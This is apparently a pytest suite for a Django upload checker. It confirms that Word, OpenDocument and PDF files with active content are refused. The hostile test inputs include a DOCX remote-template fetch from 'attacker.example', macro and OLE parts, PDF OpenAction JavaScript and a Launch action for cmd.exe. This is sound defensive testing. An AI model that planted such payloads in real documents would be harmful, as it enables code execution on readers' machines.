"""Files that run or fetch something when opened, images too large to decode safely, ZIPs of too
many parts, and where cleaned images wait: refused or bounded before anything is stored."""

import io
import struct
import subprocess
import sys
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from casework.services import file_checks
from casework.services.file_checks import (
    MESSAGE_ACTIVE_CONTENT,
    MESSAGE_TOO_MANY_PARTS,
    UploadRefused,
    check_upload,
    message_too_many_pixels,
)
from tests.documents import samples
from tests.test_settings import PRODUCTION_ENV, manage

DOCUMENT_RELS = "word/_rels/document.xml.rels"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def upload(content: bytes, name: str = "upload.bin"):
    return SimpleUploadedFile(name, content, "application/octet-stream")


def refusal(content: bytes) -> str:
    with pytest.raises(UploadRefused) as refused:
        check_upload(upload(content))
    return refused.value.message


def docx_with(*extra: tuple[str, bytes]) -> bytes:
    """samples.docx() with more parts added."""
    buffer = io.BytesIO(samples.docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        for name, content in extra:
            archive.writestr(name, content)
    return buffer.getvalue()


def relationships(*entries: tuple[str, str, str | None]) -> bytes:
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{REL}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(entries, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'
    ).encode()


def test_a_word_document_with_hyperlinks_images_and_styles_is_accepted():
    content = docx_with(
        ("_rels/.rels", relationships(("officeDocument", "word/document.xml", None))),
        (
            DOCUMENT_RELS,
            relationships(
                ("styles", "styles.xml", None),
                ("image", "media/image1.png", None),
                ("hyperlink", "https://www.gov.uk/", "External"),
            ),
        ),
        ("word/styles.xml", b"<w:styles/>"),
        ("word/media/image1.png", samples.png_with_text()),
        ("docProps/core.xml", b"<cp:coreProperties/>"),
        ("customXml/item1.xml", b"<item/>"),
    )
    assert check_upload(upload(content)).extension == ".docx"


@pytest.mark.parametrize(
    "kind",
    ["attachedTemplate", "oleObject", "frame", "subDocument", "image"],
)
def test_a_word_document_that_fetches_a_file_from_elsewhere_when_opened_is_refused(kind):
    rels = relationships((kind, "https://attacker.example/template.dotm", "External"))
    where = "word/_rels/settings.xml.rels" if kind == "attachedTemplate" else DOCUMENT_RELS
    assert refusal(docx_with((where, rels))) == MESSAGE_ACTIVE_CONTENT


@pytest.mark.parametrize(
    "part",
    [
        "word/vbaProject.bin",
        "word/embeddings/oleObject1.bin",
        "word/activeX/activeX1.xml",
        "evil/payload.exe",
        "word/vbaData.xml",
    ],
)
def test_a_word_document_with_macros_embedded_objects_or_unexpected_parts_is_refused(part):
    assert refusal(docx_with((part, b"\x00\x01"))) == MESSAGE_ACTIVE_CONTENT


def test_relationships_declaring_entities_are_refused():
    rels = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]><Relationships/>'
    assert refusal(docx_with((DOCUMENT_RELS, rels))) == MESSAGE_ACTIVE_CONTENT


@pytest.mark.parametrize("folder", ["Basic/Standard/Module1.xml", "Scripts/python/run.py"])
def test_an_opendocument_text_with_macros_is_refused(folder):
    buffer = io.BytesIO(samples.odt())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(folder, b"Sub Main\nEnd Sub\n")
    assert refusal(buffer.getvalue()) == MESSAGE_ACTIVE_CONTENT


def pdf_with(extra: bytes) -> bytes:
    return samples.pdf().replace(b"1 0 obj <</Type/Catalog", b"1 0 obj <</Type/Catalog" + extra)


@pytest.mark.parametrize(
    "extra",
    [
        b"/OpenAction <</S/JavaScript/JS(app.alert(1))>>",
        b"/OpenAction 5 0 R",
        b"/Names <</J#61vaScript 6 0 R>>",  # a name written with an escape
        b"/AA <</O <</S/Launch/F(cmd.exe)>>>>",
        b"/Names <</EmbeddedFiles 7 0 R>>",
    ],
    ids=["javascript-on-open", "action-on-open", "escaped-name", "launch", "embedded-file"],
)
def test_a_pdf_that_runs_or_carries_something_is_refused(extra):
    assert refusal(pdf_with(extra)) == MESSAGE_ACTIVE_CONTENT


def test_a_pdf_that_opens_at_a_page_with_links_is_accepted():
    content = pdf_with(b"/OpenAction [3 0 R /Fit] /URI <</Base(https://www.gov.uk/)>>")
    assert check_upload(upload(content)).extension == ".pdf"


def test_javascript_hidden_in_a_compressed_object_stream_is_found():
    hidden = zlib.compress(b"6 0 <</S/JavaScript/JS(app.alert(1))>>")
    stream = (
        b"8 0 obj <</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
        + str(len(hidden)).encode()
        + b">>stream\n"
        + hidden
        + b"\nendstream endobj\n"
    )
    content = samples.pdf().replace(b"trailer", stream + b"trailer")
    assert refusal(content) == MESSAGE_ACTIVE_CONTENT
    innocent = zlib.compress(b"6 0 <</Type/Annot/Subtype/Link/Rect[0 0 1 1]>>")
    clean = stream.replace(hidden, innocent).replace(str(len(hidden)).encode(), str(len(innocent)).encode())
    assert check_upload(upload(samples.pdf().replace(b"trailer", clean + b"trailer"))).extension == ".pdf"


def zip_of_empty_entries(count: int) -> bytes:
    """A ZIP of `count` empty entries, written directly (zipfile would take seconds)."""
    local, central = io.BytesIO(), io.BytesIO()
    for index in range(count):
        name = f"{index}".encode()
        offset = local.tell()
        local.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name)
        fields = (20, 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, offset)
        central.write(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", *fields) + name)
    directory = central.getvalue()
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), local.tell(), 0)
    return local.getvalue() + directory + end


def test_a_zip_of_very_many_entries_is_refused_before_it_is_opened(monkeypatch):
    opened = []
    monkeypatch.setattr(file_checks.zipfile, "ZipFile", lambda *a, **k: opened.append(a))
    assert refusal(zip_of_empty_entries(5001)) == MESSAGE_TOO_MANY_PARTS
    assert opened == []


def test_a_zip_of_5000_entries_is_opened_and_judged_by_its_parts():
    assert zipfile.ZipFile(io.BytesIO(zip_of_empty_entries(5000))).testzip() is None
    assert refusal(zip_of_empty_entries(5000)) == file_checks.MESSAGE_TYPE


def test_an_image_over_the_pixel_limit_is_refused_unless_a_jpeg_can_be_decoded_smaller(settings):
    settings.DOCUMENT_MAX_PIXELS = 200
    assert refusal(samples.png_with_text()) == message_too_many_pixels()  # 16 x 16 = 256 pixels
    assert message_too_many_pixels() == "The selected image must be 0.0002 million pixels or fewer"
    settings.DOCUMENT_MAX_PIXELS = 1000
    # 80 x 40 = 3,200 pixels: decoded at half size, 40 x 20, and stored so (upright, no GPS)
    checked = check_upload(upload(samples.jpeg_with_gps(size=(80, 40)), "photo.jpg"))
    with Image.open(io.BytesIO(b"".join(checked.chunks()))) as stored:
        assert stored.size == (40, 20)
        assert not stored.getexif()
    settings.DOCUMENT_MAX_PIXELS = 40  # an eighth of 80 x 40 is 10 x 5, still over
    assert refusal(samples.jpeg_with_gps(size=(80, 40))) == message_too_many_pixels()


def test_the_pixel_limit_defaults_to_40_megapixels(settings):
    from config import settings as project_settings

    assert project_settings.DOCUMENT_MAX_PIXELS == 40_000_000


MAKE_BIG_JPEG = """
import sys
from PIL import Image
exif = Image.Exif()
exif[0x0112] = 6  # rotate 90 degrees to be upright
Image.new("L", (9400, 9400), 128).save(sys.argv[1], "JPEG", exif=exif, quality=20)
"""

CHECK_AND_MEASURE = """
import resource
from django.core.files.uploadedfile import SimpleUploadedFile
from casework.services.file_checks import check_upload
content = open({path!r}, "rb").read()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
checked = check_upload(SimpleUploadedFile("photo.jpg", content, "image/jpeg"))
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(checked.size, (after - before) // 1024)
"""


def test_a_small_jpeg_of_88_megapixels_tagged_to_rotate_does_not_take_hundreds_of_mb(tmp_path):
    # 9400 x 9400 is under Pillow's own limit; decoded and turned whole it took ~180 MB here (L).
    path = tmp_path / "big.jpg"
    subprocess.run([sys.executable, "-c", MAKE_BIG_JPEG, str(path)], check=True, timeout=120)
    assert path.stat().st_size < 2 * 1024 * 1024
    result = manage("shell", "-c", CHECK_AND_MEASURE.format(path=str(path)), env=PRODUCTION_ENV)
    assert result.returncode == 0, result.stderr
    size, grown_mb = map(int, result.stdout.strip().splitlines()[-1].split())
    assert size > 0
    assert grown_mb < 80, f"{grown_mb} MB"


def test_cleaned_images_wait_in_the_configured_temporary_folder(settings, tmp_path, monkeypatch):
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    folders = []
    real = file_checks.tempfile.SpooledTemporaryFile

    def spy(*args, **kwargs):
        folders.append(kwargs.get("dir"))
        return real(*args, **kwargs)

    monkeypatch.setattr(file_checks.tempfile, "SpooledTemporaryFile", spy)
    check_upload(upload(samples.jpeg_with_gps(), "photo.jpg"))
    assert folders == [str(tmp_path)]
